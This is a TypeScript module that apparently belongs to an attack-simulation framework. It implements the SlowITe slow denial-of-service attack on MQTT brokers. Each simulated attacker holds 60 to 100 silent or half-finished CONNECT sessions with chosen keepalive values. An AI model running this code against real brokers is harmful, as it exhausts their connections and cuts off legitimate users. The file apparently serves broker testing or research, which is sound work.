// SlowITe: few connections, held for ever.

import type { Attack } from '../attacker.js'
import { connectPacket } from '../packets.js'

/** SlowITe (Vaccari, Aiello, Cambiaso 2020): connections that say nothing for as long as keepalive lets them. */
export const slowIte: Attack = {
  name: 'slowite',
  summary:
    'SlowITe: 3 to 5 addresses hold 60 to 100 silent connections each, CONNECTs with the longest keepalive or a short one opened anew when the broker closes it; some never finish their CONNECT',
  attackers: [3, 5],
  async run(attacker) {
    const { chance } = attacker
    const places = chance.whole(60, 100)
    const keepalive = chance.oneOf([4, 6, 65_535])
    const hold = async (): Promise<void> => {
      while (!attacker.over) {
        const isHalf = chance.happens(0.15)
        const socket = await attacker.connect()
        if (socket === null) {
          await attacker.pause(1_000)
          continue
        }
        const bytes = connectPacket({ clientId: chance.text(16), keepalive })
        await attacker.send(socket, isHalf ? bytes.subarray(0, chance.whole(1, bytes.length - 1)) : bytes)
        await Promise.race([new Promise(resolve => socket.once('close', resolve)), attacker.pause(3_600_000)])
      }
    }
    const holding: Promise<void>[] = []
    for (let i = 0; i < places && !attacker.over; i++) {
      holding.push(hold())
      await attacker.pause(chance.between(40, 120))
    }
    await Promise.all(holding)
  }
}
